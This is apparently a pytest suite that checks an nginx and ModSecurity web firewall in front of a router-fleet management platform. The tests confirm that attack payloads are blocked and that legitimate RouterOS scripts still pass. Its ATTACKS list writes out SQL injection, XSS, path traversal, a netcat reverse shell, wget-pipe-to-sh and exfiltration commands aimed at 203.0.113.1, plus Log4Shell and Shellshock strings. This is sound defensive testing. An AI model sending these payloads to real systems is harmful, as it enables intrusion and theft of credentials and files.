"""nginx with ModSecurity and the OWASP core rules: attacks do not reach the platform, and its own traffic all does."""

import base64
import ssl
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.fleet.house import Home, House
from tikfleet.virtual.light.fleet import FleetOptions, run_fleet

from .conftest import MakeFront

# (where, what): in the query, the path, a header, a cookie, or the JSON of a request to make a site.
ATTACKS = [
    ("query", "1' OR '1'='1' --"),
    ("query", "1 UNION SELECT username, password FROM users--"),
    ("query", "1; DROP TABLE device; --"),
    ("query", "1 AND SLEEP(5)"),
    ("query", "<script>alert(document.cookie)</script>"),
    ("query", '"><img src=x onerror=alert(1)>'),
    ("query", "javascript:alert(1)"),
    ("query", "../../../../etc/passwd"),
    ("query", "..%2f..%2f..%2fetc%2fshadow"),
    ("query", "php://filter/convert.base64-encode/resource=index"),
    ("query", "; cat /etc/passwd"),
    ("query", "$(wget http://203.0.113.1/x.sh -O- | sh)"),
    ("query", "`id`; nc -e /bin/sh 203.0.113.1 4444"),
    ("query", "http://169.254.169.254/latest/meta-data/ && curl http://203.0.113.1"),
    ("query", "${jndi:ldap://203.0.113.1/a}"),
    ("query", "x%0d%0aSet-Cookie: tikfleet_session=stolen"),
    ("query", "<?php system($_GET['c']); ?>"),
    ("query", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    ("path", "/.git/config"),
    ("path", "/.env"),
    ("path", "/api/v1/jobs?device_id=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("path", "/wp-config.php.bak"),
    ("path", "/agent/v1/..%2f..%2f..%2fetc%2fpasswd"),
    ("path", "/agent/v1/install?version=7.16'%20UNION%20SELECT%20token%20FROM%20device--"),
    ("user-agent", "${jndi:ldap://203.0.113.1/a}"),
    ("user-agent", "sqlmap/1.7#stable"),
    ("user-agent", "Nikto/2.5.0"),
    ("user-agent", "() { :; }; /bin/bash -c id"),
    ("referer", "<script>alert(1)</script>"),
    ("cookie", "1' UNION SELECT 1,2,3 FROM users--"),
    ("json", "1' OR '1'='1' --"),
    ("json", "<script>alert(document.cookie)</script>"),
    ("json", "; cat /etc/passwd | nc 203.0.113.1 4444"),
    ("json", "../../../../etc/passwd"),
    ("json", "${jndi:ldap://203.0.113.1/a}"),
]
# What people and programs rightly send, which looks like the above.
SCRIPT = (
    ':local u [/tool fetch url="https://203.0.113.1/x?a=1&b=2" output=user as-value]; '
    ':if (1=1 || "a"=\'b\') do={:put "<script>alert(1)</script> ../../etc/passwd; cat /etc/shadow"}; '
    '/system script run [find where name~"^(union|select) .* from users--"]'
)
EXPORT = '/ip firewall filter\nadd chain=input action=drop comment="; DROP TABLE users; -- <b>../../etc/passwd</b>"\n'
LOOKING = '/ip/firewall/nat where comment~"\' or 1=1 --"'


@pytest.fixture(scope="module")
def nginx(front: MakeFront) -> str:
    return front("nginx").url


@pytest.fixture(scope="module")
def person(house: House, nginx: str, trust: ssl.SSLContext) -> Iterator[httpx.Client]:
    """Somebody who may do everything, through the firewall."""
    everything = house.get("/session")["permissions"]
    token = house.post("/tokens", {"name": "through the firewall", "scopes": everything})["secret"]
    headers = {"Authorization": f"Bearer {token}"}
    with httpx.Client(base_url=nginx, verify=trust, trust_env=False, timeout=60, headers=headers) as client:
        yield client


@pytest.fixture(scope="module")
def device_id(house: House, nginx: str, trust: ssl.SSLContext) -> str:
    key = house.key()["secret"]
    body = {"inventory": {"serial-number": "FIREWALLED", "version": "7.16.2"}}
    answer = httpx.post(f"{nginx}/agent/v1/enrol", json=body, headers={"Authorization": f"Bearer {key}"}, verify=trust)
    return str(answer.json()["device"])


def assault(client: httpx.Client, where: str, what: str) -> httpx.Response:
    if where == "query":
        return client.get("/api/v1/devices", params={"site_id": what})
    if where == "path":
        # httpx would tidy the path up; what is sent is what is written.
        return client.get(httpx.URL(str(client.base_url)).copy_with(raw_path=what.encode()))
    if where == "json":
        return client.post("/api/v1/sites", json={"name": what})
    if where == "cookie":
        return client.get("/api/v1/devices", headers={"Cookie": f"theme={what}"})
    return client.get("/api/v1/devices", headers={where: what})


@pytest.mark.parametrize(("where", "what"), ATTACKS, ids=[f"{n}-{where}" for n, (where, _) in enumerate(ATTACKS)])
def test_an_attack_goes_no_further(where: str, what: str, person: httpx.Client) -> None:
    answer = assault(person, where, what)

    # A path that climbs out of the root is no request for nginx itself.
    assert answer.status_code in ((400, 403) if where == "path" else (403,))
    assert "nginx" in answer.text, "the platform answered"


def test_what_people_and_programs_send_comes_through(person: httpx.Client, device_id: str) -> None:
    sent: list[tuple[str, str, Any]] = [
        ("POST", "/api/v1/scripts/check", {"source": SCRIPT}),
        ("POST", "/api/v1/jobs", {"device_ids": [device_id], "kind": "script", "script": SCRIPT, "unchecked": True}),
        ("POST", "/api/v1/configs/diff", {"old": EXPORT, "new": EXPORT + EXPORT}),
        ("POST", "/api/v1/library", {"name": "Audit", "source": SCRIPT}),
        ("POST", "/api/v1/runs", {"name": "All", "script": SCRIPT, "device_ids": [device_id], "draft": True}),
        (
            "POST",
            "/api/v1/queries/saved",
            {"name": "NAT", "ask": {"query": LOOKING}},
        ),
        ("POST", "/api/v1/sites", {"name": 'O\'Brien & Söhne, Rīga (1 of 2); "Nord"', "notes": SCRIPT}),
        ("PATCH", f"/api/v1/devices/{device_id}", {"notes": "; cat /etc/passwd", "tags": ["select"]}),
        ("GET", "/api/v1/devices?q=%3Cscript%3E+or+1%3D1--&sort=-name&limit=5", None),
        ("GET", "/api/v1/audit?from=2026-11-23T04:20:11.000Z&limit=3", None),
        ("GET", "/api/v1/telemetry/series?metric=cpu_load&last=6h", None),
    ]

    for method, path, body in sent:
        answer = person.request(method, path, json=body)
        assert answer.status_code != 403, f"{method} {path}: {answer.text[:200]}"
        assert "nginx" not in answer.text[:200], f"{method} {path}: {answer.text[:200]}"


def test_a_routers_own_rest_comes_through(person: httpx.Client, device_id: str) -> None:
    """Nobody is there to answer, so what counts is that the platform says so."""
    menu = f"/api/v1/devices/{device_id}/routeros"
    basic = base64.b64encode(f"{device_id}:{person.headers['Authorization'].split()[1]}".encode()).decode()
    rest = {"Authorization": f"Basic {basic}", "Prefer": "wait=0"}
    waitless = {"Prefer": "wait=0"}

    answers = [
        person.get(f"{menu}/ip/firewall/filter?comment=%27+or+1%3D1--&.proplist=.id,chain", headers=waitless),
        person.put(f"{menu}/system/script", json={"name": "x", "source": SCRIPT}, headers=waitless),
        person.patch(f"{menu}/ip/firewall/filter/*1", json={"comment": "<script>alert(1)</script>"}, headers=waitless),
        person.post(f"{menu}/execute", json={"script": SCRIPT}, headers=waitless),
        person.delete(f"{menu}/file/flash%2Fetc%2Fpasswd", headers=waitless),
        person.post("/rest/system/script/add", json={"name": "y", "source": SCRIPT}, headers=rest),
    ]

    assert all("nginx" not in answer.text for answer in answers), [answer.text[:100] for answer in answers]


def test_a_password_may_look_like_anything(person: httpx.Client) -> None:
    body = {"email": "ada@acme.example", "password": "' OR 1=1; -- <script>$(reboot)</script>"}

    assert person.post("/api/v1/session", json=body).status_code == 401


async def test_the_light_fleet_passes(house: House, nginx: str, ca_file: Path) -> None:
    """Every form of report, with inventories, neighbours, exports and outcomes of jobs."""
    options = FleetOptions(
        nginx, house.key()["secret"], routers=30, seed=11, interval_s=1, duration_s=4, ca_file=ca_file, patience_s=60
    )

    told = await run_fleet(options, lambda summary: None)

    # How many come in the time is the machine's business, that none is turned away the firewall's.
    assert (told.refused, told.errors) == (0, 0), told.line()
    assert told.enrolled >= 5, told.line()
    assert told.ok >= 5, told.line()


async def test_a_whole_router_passes_with_an_attack_in_its_name_and_in_its_output(
    house: House, nginx: str, ca_file: Path
) -> None:
    """The agent as it is sent: installed, reporting, and running a job, all by RouterOS's own requests."""
    home = Home(house, "7.20.8")
    home.router.scripting.fetcher._builtin = str(ca_file)
    await home.router.start()
    try:
        await home.run('/system identity set name="<script>alert(1)</script> \' or 1=1 --"')
        shown = await home.enrol()
        assert home.id, shown
        await home.report()
        job = await home.finished(house.ask(home.id, kind="script", script=':put "; cat /etc/passwd <script>"'))
    finally:
        await home.router.stop()

    assert (job["status"], job["error"]) == ("succeeded", None)
    assert "cat /etc/passwd" in job["output"]
    assert {trip.status for trip in home.road.trips} == {200}
